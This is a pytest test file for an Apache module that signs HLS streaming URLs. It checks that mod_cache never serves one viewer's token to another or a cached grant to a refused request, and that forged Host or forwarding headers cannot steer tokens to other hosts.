        # a Range on a playlist: the whole rewritten playlist, 200 (.m3u8);
        # the proxied playlist known by its type only gets no validator to
        # resume with, so an If-Range never mixes in the stored text
        st, hd, rbody = same_response(srv, url, {"Range": "bytes=0-9"})
        if path.endswith(".m3u8"):
            assert st == 200 and rbody == body, path
        st, hd, _ = same_response(srv, url, method="HEAD")
        assert st == 200 and hd.get("content-length") in (None, str(len(body))), path
    url = sign("/live/l1/720p/long.m3u8", "--prefix", "/live/l1/")
    st, _, body = same_response(srv, url)
    assert st == 200 and body == expected(LONG, token_of(url)).encode()
    # another format's prefix link (Akamai's ACL token)
    url = sign_foreign(srv, mgctl, "akamai-edgeauth", "/videos/l1/720p/index.m3u8", "--prefix",
                       "/videos/l1/")
    st, _, body = same_response(srv, url)
    assert st == 200 and body == expected(template(MEDIA, srv.port), token_of(url)).encode()
    # a segment: as stored, Range 206; bare: refused
    url = sign("/videos/l1/720p/seg-1.ts", "--prefix", "/videos/l1/")
    st, hd, body = same_response(srv, url, {"Range": "bytes=4-9"})
    assert st == 206 and body == TS[4:10]
    st, hd, _ = same_response(srv, "/videos/l1/720p/seg-1.ts")
    assert st == 403 and hd["x-media-guard-reason"] == "token-missing"
    assert " 200 \"GET /videos/l1/master.m3u8?mg_" in srv.access_log()
    assert re.search(r' 200 "GET /live/l1/720p/long\.m3u8\?mg_\S+ HTTP/2\.0"', srv.access_log())


# ---------------------------------------------------------------- mod_cache

# The protected playlists and segments behind mod_cache (mod_cache_disk or
# mod_cache_socache), as an admin who wants the segments (the same bytes for
# every viewer) stored once although every viewer's token differs would
# configure it:
# the query left out of the key, responses marked private stored anyway.
# /live/ is proxied to this server's unprotected /origin/live/, which says
# every answer may be cached for ten minutes; /pub/ is open to anyone.
CACHE_POLICY = """\
version: 1
name: hlscache
keys:
  - {id: k2026, file: keys/k2026.key, sign: true}
rules:
  - {id: live, path: /live/, token: required}
  - {id: pub, path: /pub/, access: {anonymous: download}}
  - {id: either, path: /either/, token: required}
  - {id: hand, path: /hand/, token: required}
"""

CACHE_CONF = """\
MediaGuardPolicy hlscache @POLICIES@/hlscache.yaml
Protocols h2c http/1.1
MediaGuardReasonHeader On
AddType application/vnd.apple.mpegurl .hls
@STORE@
CacheEnable @PROVIDER@ /live/
CacheEnable @PROVIDER@ /pub/
CacheQuickHandler @QUICK@
CacheIgnoreQueryString On
CacheHeader On
CacheDetailHeader On
<LocationMatch "^/(live|pub)/">
    Require media-guard hlscache
    MediaGuardHLSRewrite On
    CacheStorePrivate On
    CacheStoreNoStore On
</LocationMatch>
ProxyPass "/live/" "http://127.0.0.1:@PORT@/origin/live/"
ProxyPass "/pub/" "http://127.0.0.1:@PORT@/origin/live/"
CacheEnable @PROVIDER@ /either/
<Location "/either/">
    <RequireAny>
        Require media-guard hlscache
        Require expr "%{HTTP:X-Let-In} == 'yes'"
    </RequireAny>
    CacheStorePrivate On
    CacheStoreNoStore On
</Location>
ProxyPass "/either/" "http://127.0.0.1:@PORT@/origin/live/"
# the admin says where in the filter chain mod_cache stores and serves:
# CACHE is replaced by CACHE_SAVE or CACHE_OUT where it stands (mod_cache's
# handler, CacheQuickHandler Off), here before the playlist rewrite; under
# the quick handler mod_cache ignores it (AH00776)
CacheEnable @PROVIDER@ /hand/
<Location "/hand/">
    Require media-guard hlscache
    MediaGuardHLSRewrite On
    CacheStorePrivate On
    CacheStoreNoStore On
    SetOutputFilter CACHE
</Location>
ProxyPass "/hand/" "http://127.0.0.1:@PORT@/origin/live/"
<Location "/origin/">
    Header set Cache-Control "public, max-age=600"
</Location>
"""


# mod_cache's storage: files (mod_cache_disk) or shared memory (mod_cache_socache)
CACHE_STORES = {
    "disk": ('CacheRoot "@ROOT@/cache"', ["cache_disk"]),
    "socache": ("CacheSocache shmcb", ["cache_socache", "socache_shmcb"]),
}


CACHE_PARAMS = [(store, quick, client) for client in ("h1", "h2") for store in ("disk", "socache")
                for quick in ("Off", "On")]


class Client:
    """GETs over HTTP/1.1 (requests) or HTTP/2 (h2c with prior knowledge,
    curl: the h2() helper above), answered alike: status_code, headers
    (any case), content, text."""

    def __init__(self, srv, proto):
        self.srv, self.proto = srv, proto

    def get(self, target, headers=None, proto=None):
        if (proto or self.proto) == "h1":
            return self.srv.get(target, headers=headers)
        status, hdrs, body, version = h2(self.srv, target, headers)
        assert version == "HTTP/2", version
        return RawResponse(status, hdrs, body)


@pytest.fixture(scope="module", params=CACHE_PARAMS,
                ids=[f"{s}-{'handler' if q == 'Off' else 'quick'}-{c}" for s, q, c in CACHE_PARAMS])
def cached(request, apache_factory, mgctl):
    """A server with mod_cache in front, CacheQuickHandler Off (what
    docs/directives.md asks for) or On (mod_cache's default), storing on disk
    or in shared memory; its clients on HTTP/1.1 or on HTTP/2 (h2c, mod_http2);
    and a signer for its policy (view by default, as mgctl sign makes links)."""
    provider, quick, proto = request.param
    store, modules = CACHE_STORES[provider]
    conf = (CACHE_CONF.replace("@QUICK@", quick).replace("@PROVIDER@", provider)
            .replace("@STORE@", store))
    s = apache_factory(f"hls-cache-{provider}-{quick.lower()}-{proto}", conf,
                       policies={"hlscache.yaml": CACHE_POLICY},
                       extra_modules=["proxy", "proxy_http", "headers", "cache", "http2", *modules],
                       loglevel="debug", start=False)
    write_keys(s)
    (s.root / "cache").mkdir()
    (s.root / "cache").chmod(0o777)  # the children run as nobody
    media = plain(template(MEDIA, s.port))
    for n in range(1, 7):
        write(s.htdocs / f"origin/live/l{n}/720p/index.m3u8", media)
        write(s.htdocs / f"origin/live/l{n}/720p/alt.hls", media)
        for seg in SEGMENTS:
            write(s.htdocs / f"origin/live/l{n}/720p" / seg, TS)
    s.start()

    def sign(url, *opts):
        p = mgctl("sign", "--policy", s.policy_dir / "hlscache.yaml", *opts, url)
        assert p.returncode == 0, p.stderr
        return p.stdout.strip()
    try:
        yield Client(s, proto), sign, quick
    finally:
        s.stop()


def test_a_cached_playlist_never_carries_another_viewers_token(cached):
    """Viewers A and B open the same playlist with their own prefix links
    (download and view): each gets the playlist with its own token, never
    the other's, and a bare request is refused, although the cache serves
    a segment stored for A to B (so it does store across tokens)."""
    cl, sign, quick = cached
    srv = cl.srv
    for n, acc in ((1, "download"), (2, "view")):
        base = f"/live/l{n}/720p/"
        for name in ("index.m3u8", "alt.hls"):  # by extension; by Content-Type only
            links = [sign(base + name, "--access", acc, "--ttl", ttl, "--prefix", f"/live/l{n}/")
                     for ttl in ("10m", "20m", "30m")]
            tokens = [token_of(u) for u in links]
            for viewer in (0, 1, 0, 2):
                r = cl.get(links[viewer])
                assert r.status_code == 200, (name, r.headers.get("X-Media-Guard-Reason"))
                assert r.text == expected_elsewhere(srv.port, tokens[viewer]), \
                    (quick, acc, name, viewer, r.headers.get("X-Cache-Detail"))
                # never stored, so never a hit (mod_cache says why: CacheDetailHeader),
                # and nothing else about the response changes for that (r->no_cache
                # would also send every client an Expires of now)
                assert r.headers["X-Cache"].startswith("MISS"), r.headers.get("X-Cache-Detail")
                assert "Expires" not in r.headers
                assert r.headers["Cache-Control"] == ("private, max-age=600" if acc == "download"
                                                      else "private, no-store")
            bare = cl.get(base + name)
            assert bare.status_code == 403, (quick, name, bare.headers.get("X-Cache-Detail"))
            assert bare.headers["X-Media-Guard-Reason"] == "token-missing"
            assert "#EXTM3U" not in bare.text
    # the cache is live: segments granted to one token are served to
    # another from the cache while the policy is asked every time
    # (CacheQuickHandler Off) ...
    a = sign("/live/l3/720p/seg-1.ts", "--access", "download", "--ttl", "10m",
             "--prefix", "/live/l3/")
    b = sign("/live/l3/720p/seg-1.ts", "--access", "download", "--ttl", "20m",
             "--prefix", "/live/l3/")
    first, second = cl.get(a), cl.get(b)
    assert first.status_code == second.status_code == 200
    assert first.content == second.content == TS
    if quick == "Off":
        # mod_cache commits the entity at the end of the response, which over
        # HTTP/2 (and on a loaded machine) may come after the client has read
        # it: a MISS "attempting entity save" right after it is that race,
        # not a refusal to store. Ask again for a while; a HIT must come.
        for _ in range(50):
            if not second.headers["X-Cache"].startswith("MISS") or \
                    "attempting entity save" not in second.headers.get("X-Cache-Detail", ""):
                break
            time.sleep(0.1)
            second = cl.get(b)
            assert second.status_code == 200 and second.content == TS
        assert second.headers["X-Cache"].startswith("HIT"), second.headers.get("X-Cache-Detail")
    else:
        # ... and never where the cache answers before the policy
        assert second.headers["X-Cache"].startswith("MISS"), second.headers.get("X-Cache-Detail")
    bare = cl.get("/live/l3/720p/seg-1.ts")
    assert bare.status_code == 403 and bare.content != TS, bare.headers.get("X-Cache-Detail")
    assert bare.headers["X-Media-Guard-Reason"] == "token-missing"
    # the error log says why (LogLevel media_guard:debug), once per
    # response: under the quick handler every grant here is kept out
    # because it depends on who asks, playlists included
    log = srv.error_log()
    why = "MG01201: media-guard: not to be stored by mod_cache: "
    assert (why + "an HLS playlist under MediaGuardHLSRewrite On" in log) == (quick == "Off")
    assert (why + "the grant depends on who asks" in log) == (quick == "On")


def test_a_playlist_granted_by_a_cookie_is_not_stored_for_query_viewers(cached, mgctl):
    """A playlist known by its Content-Type only, first fetched with a
    signed cookie (not rewritten: the cookie covers the segments), is not
    stored: a viewer with a query link asking next gets it rewritten for
    that link, not bare URIs from the cache."""
    cl, sign, quick = cached
    srv = cl.srv
    p = mgctl("sign", "--policy", srv.policy_dir / "hlscache.yaml", "--ttl", "10m",
              "--prefix", "/live/l5/", "--cookie")
    assert p.returncode == 0, p.stderr
    cookie = "mg_token=" + re.search(r"mg_token=([^;]+)", p.stdout).group(1)
    for _ in range(2):
        r = cl.get("/live/l5/720p/alt.hls", headers={"Cookie": cookie})
        assert r.status_code == 200, r.headers.get("X-Media-Guard-Reason")
        assert r.text == plain(template(MEDIA, srv.port))
    link = sign("/live/l5/720p/alt.hls", "--ttl", "10m", "--prefix", "/live/l5/")
    r = cl.get(link)
    assert r.status_code == 200, r.headers.get("X-Media-Guard-Reason")
    assert r.text == expected_elsewhere(srv.port, token_of(link)), r.headers.get("X-Cache-Detail")


def test_a_refused_request_never_gets_a_cached_grant(cached):
    """A refused request leaves nothing in the cache (the next request with
    a good link is granted), and a grant stored for a good link is never
    served to a request the policy refuses; a public file is still stored
    and served from the cache."""
    cl, sign, quick = cached
    srv = cl.srv
    for path in ("/live/l4/720p/seg-2.ts", "/live/l4/720p/index.m3u8"):
        good = sign(path, "--ttl", "10m", "--prefix", "/live/l4/")
        for bad in (path, good.replace("mg_sig=", "mg_sig=x")):
            no = cl.get(bad)
            assert no.status_code == 403, no.headers.get("X-Cache-Detail")
            assert no.headers["Cache-Control"] == "private, no-store"
        yes = cl.get(good)
        assert yes.status_code == 200, (quick, path, yes.headers.get("X-Cache-Detail"))
        assert yes.headers["X-Cache"].startswith("MISS"), yes.headers.get("X-Cache-Detail")
        again = cl.get(path)
        assert again.status_code == 403, (quick, path, again.headers.get("X-Cache-Detail"))
    # the same for everyone: stored and served from the cache
    first, second = cl.get("/pub/l4/720p/seg-3.ts"), cl.get("/pub/l4/720p/seg-3.ts")
    assert first.status_code == second.status_code == 200 and second.content == TS
    # mod_cache may still be saving the first response when the second comes
    # (HTTP/2, the ASan module): a MISS "attempting entity save" is that race;
    # ask again for a while, a HIT must come (as in the test above)
    for _ in range(50):
        if not second.headers["X-Cache"].startswith("MISS") or \
                "attempting entity save" not in second.headers.get("X-Cache-Detail", ""):
            break
        time.sleep(0.1)
        second = cl.get("/pub/l4/720p/seg-3.ts")
        assert second.status_code == 200 and second.content == TS
    assert second.headers["X-Cache"].startswith("HIT"), second.headers.get("X-Cache-Detail")


def test_a_grant_of_another_require_line_is_never_served_to_others(cached):
    """Under <RequireAny>, a request the policy refuses and another Require
    line grants (here a header) depends on who asks as much as a policy
    grant does: mod_cache's quick handler must not hand the stored answer
    to the next client, whom the policy and the other line both refuse."""
    cl, sign, quick = cached
    srv = cl.srv
    path = "/either/l2/720p/seg-4.ts"
    for _ in range(2):
        yes = cl.get(path, headers={"X-Let-In": "yes"})
        assert yes.status_code == 200 and yes.content == TS, yes.headers.get("X-Cache-Detail")
        assert "X-Media-Guard-Reason" not in yes.headers
    no = cl.get(path)
    assert no.status_code == 403, (quick, no.headers.get("X-Cache-Detail"))
    assert no.content != TS
    assert no.headers["X-Media-Guard-Reason"] == "token-missing"
    why = "MG01201: media-guard: not to be stored by mod_cache: media-guard refused and another Require"
    assert (why in srv.error_log()) == (quick == "On")


def test_a_hand_placed_cache_filter_stores_no_viewers_token(cached, mgctl):
    """`SetOutputFilter CACHE` puts mod_cache's store, and its hits, where the
    filter stands: before the playlist rewrite (mod_cache's handler), or
    nowhere (the quick handler ignores it, AH00776). Viewers A, B and C,
    over HTTP/1.1 and HTTP/2 in turn on one cache, each get the playlist
    with their own token. A .m3u8 is never stored; a playlist known by its
    Content-Type only is stored, behind mod_cache's handler, as the origin
    sent it (a signed-cookie viewer gets that text from the cache, no token
    in it) and rewritten on its way out for each viewer. Refused requests
    get nothing; segments are served from the cache only where the policy
    is asked first."""
    cl, sign, quick = cached
    srv = cl.srv
    base = "/hand/l6/720p/"
    for name in ("index.m3u8", "alt.hls"):
        links = [sign(base + name, "--access", "download", "--ttl", ttl, "--prefix", "/hand/l6/")
                 for ttl in ("10m", "20m", "30m")]
        for n, (viewer, proto) in enumerate(((0, "h1"), (1, "h2"), (0, "h2"), (2, "h1"),
                                             (1, "h1"))):
            r = cl.get(links[viewer], proto=proto)
            assert r.status_code == 200, (name, r.headers.get("X-Media-Guard-Reason"))
            assert r.text == expected_elsewhere(srv.port, token_of(links[viewer])), \
                (quick, name, viewer, proto, r.headers.get("X-Cache-Detail"))
            assert r.headers["Cache-Control"] == "private, max-age=600"
            stored = name == "alt.hls" and quick == "Off" and n > 0
            assert r.headers["X-Cache"].startswith("HIT" if stored else "MISS"), \
                (quick, name, n, r.headers.get("X-Cache-Detail"))
        for proto in ("h1", "h2"):
            bare = cl.get(base + name, proto=proto)
            assert bare.status_code == 403 and "#EXTM3U" not in bare.text, bare.headers
            assert bare.headers["X-Media-Guard-Reason"] == "token-missing"
    # what the cache holds is the origin's text: a cookie viewer, whose
    # playlist is not rewritten, gets exactly that
    p = mgctl("sign", "--policy", srv.policy_dir / "hlscache.yaml", "--ttl", "10m",
              "--prefix", "/hand/l6/", "--cookie")
    assert p.returncode == 0, p.stderr
    cookie = "mg_token=" + re.search(r"mg_token=([^;]+)", p.stdout).group(1)
    for proto in ("h1", "h2"):
        r = cl.get(base + "alt.hls", headers={"Cookie": cookie}, proto=proto)
        assert r.status_code == 200 and r.text == plain(template(MEDIA, srv.port))
        assert r.headers["X-Cache"].startswith("HIT" if quick == "Off" else "MISS")
    # segments: one stored for A serves B only where the policy asked first;
    # the module's headers come after the hand-placed filter, so they are
    # those of each request, not of the one that stored it (B's link is view-only)
    a = sign(base + "seg-1.ts", "--access", "download", "--ttl", "10m", "--prefix", "/hand/l6/")
    b = sign(base + "seg-1.ts", "--access", "view", "--ttl", "20m", "--prefix", "/hand/l6/")
    first, second = cl.get(a, proto="h1"), cl.get(b, proto="h2")
    assert first.status_code == second.status_code == 200 and second.content == TS
    assert second.headers["X-Cache"].startswith("HIT" if quick == "Off" else "MISS")
    assert first.headers["Cache-Control"] == "private, max-age=600"
    assert "inline" not in first.headers.get("Content-Disposition", "")
    assert second.headers["Cache-Control"] == "private, no-store"
    assert second.headers["Content-Disposition"] == "inline"
    bare = cl.get(base + "seg-1.ts")
    assert bare.status_code == 403 and bare.content != TS
    # the quick handler says that it ignored the filter (behind mod_cache's
    # handler the stored Content-Type playlist shows where it stood: after
    # the rewrite, which keeps every playlist out, nothing would be stored)
    log = srv.error_log()
    ignored = "AH00776: cache: CACHE filter was added in quick handler mode"
    assert (ignored in log) == (quick == "On")


# ---------------------------------------------------------------- the host
# Which absolute URIs are "this site" follows the Host only when it is one of
# the server's own names: under UseCanonicalName Off (httpd's default) httpd
# serves any Host, and headers a front proxy would set are never read.

def test_a_forged_host_or_forwarding_headers_never_choose_where_the_token_goes(srv, sign):
    url = sign("/videos/l1/720p/index.m3u8", "--prefix", "/videos/l1/")
    tok = token_of(url)
    honest = srv.get(url).text
    assert honest == expected(template(MEDIA, srv.port), tok)
    own = f"http://127.0.0.1:{srv.port}/videos/l1/720p/seg-3.ts"
    assert own + "?" + tok in honest
    # 127.0.0.1 is the ServerName, but port 1 is neither the connection's
    # nor the server's: http://127.0.0.1:1/... must not get the token
    for host in ("other.example", "other.example:80", f"other.example:{srv.port}", "127.0.0.1:1"):
        r = srv.get(url, headers={"Host": host})
        assert r.status_code == 200, (host, r.headers.get("X-Media-Guard-Reason"))
        # other.example's URIs keep no token, and neither does any absolute one
        assert r.text == honest.replace(own + "?" + tok, own), host
        assert "other.example/videos/l1/720p/seg-1.ts?" not in r.text
        assert "127.0.0.1:1/videos/l1/720p/seg-1.ts?" not in r.text
    assert "MG00406" in srv.error_log()
    for headers in ({"X-Forwarded-Host": "other.example"},
                    {"Forwarded": "host=other.example;proto=https"},
                    {"X-Forwarded-Proto": "https"},
                    {"X-Forwarded-Host": "other.example:443", "X-Forwarded-Proto": "https",
                     "X-Forwarded-Port": "443", "X-Forwarded-Server": "other.example"}):
        r = srv.get(url, headers=headers)
        assert r.status_code == 200 and r.text == honest, headers


VHOST = """
<VirtualHost *:@PORT@>
    ServerName 127.0.0.1
    ServerAlias alias.example *.wild.example
    UseCanonicalName Off
</VirtualHost>
"""

NAMED = """\
#EXTM3U
#EXTINF:4.0,
http://alias.example:@PORT@/videos/l1/720p/seg-1.ts
#EXTINF:4.0,
http://cam.wild.example:@PORT@/videos/l1/720p/seg-2.ts
#EXTINF:4.0,
http://other.example:@PORT@/videos/l1/720p/seg-3.ts
"""


def test_server_alias_names_are_this_site_and_other_hosts_are_not(apache_factory, sign):
    s = apache_factory("hls-alias", CONF + VHOST, policies={"hls.yaml": POLICY},
                       extra_modules=["proxy", "proxy_http", "filter", "deflate", "http2"],
                       start=False)
    write_keys(s)
    write(s.htdocs / "videos/l1/720p/named.m3u8", template(NAMED, s.port))
    s.start()
    try:
        url = sign("/videos/l1/720p/named.m3u8", "--prefix", "/videos/l1/")
        tok = token_of(url)
        lines = template(NAMED, s.port).splitlines()
        for host, signed in ((f"alias.example:{s.port}", 2), (f"cam.wild.example:{s.port}", 4),
                             (f"other.example:{s.port}", None), ("127.0.0.1", None)):
            r = s.get(url, headers={"Host": host})
            assert r.status_code == 200, (host, r.headers.get("X-Media-Guard-Reason"))
            want = list(lines)
            if signed is not None:
                want[signed] += "?" + tok
            assert r.text.splitlines() == want, host
    finally:
        s.stop()


# Behind a proxy that terminates TLS and forwards plain HTTP, httpd takes its
# scheme from `ServerName https://NAME` (docs/directives.md,
# "MediaGuardHLSRewrite"): the playlist's https:// URIs of this site then get
# the token, and its http:// ones never do (the player would send the token
# in clear text).
VHOST_TLS_PROXIED = """
<VirtualHost *:@PORT@>
    ServerName https://media.example
    ServerAlias media2.example
    UseCanonicalName Off
</VirtualHost>
"""

BEHIND_TLS = """\
#EXTM3U
#EXTINF:4.0,
https://media.example/videos/l1/720p/seg-1.ts<Q>
#EXTINF:4.0,
http://media.example/videos/l1/720p/seg-2.ts
#EXTINF:4.0,
//media.example/videos/l1/720p/seg-3.ts<Q>
#EXTINF:4.0,
https://media.example:443/videos/l1/720p/seg-4.ts<Q>
#EXTINF:4.0,
http://media.example:80/videos/l1/720p/seg-1.ts
#EXTINF:4.0,
https://media.example:@PORT@/videos/l1/720p/seg-1.ts
#EXTINF:4.0,
http://media.example:@PORT@/videos/l1/720p/seg-1.ts
#EXTINF:4.0,
seg-5.ts<Q>
"""


def test_behind_a_tls_proxy_servername_https_gives_the_token_to_https_uris_only(
        apache_factory, sign):
    s = apache_factory("hls-tls-proxied", CONF + VHOST_TLS_PROXIED, policies={"hls.yaml": POLICY},
                       extra_modules=["proxy", "proxy_http", "filter", "deflate", "http2"],
                       start=False)
    write_keys(s)
    write(s.htdocs / "videos/l1/720p/tls.m3u8", plain(template(BEHIND_TLS, s.port)))
    s.start()
    try:
        url = sign("/videos/l1/720p/tls.m3u8", "--prefix", "/videos/l1/")
        # what the proxy forwards: the public Host, with or without https's port
        for host in ("media.example", "media.example:443"):
            r = s.get(url, headers={"Host": host})
            assert r.status_code == 200, r.headers.get("X-Media-Guard-Reason")
            assert r.text == expected(template(BEHIND_TLS, s.port), token_of(url)), r.text
    finally:
        s.stop()
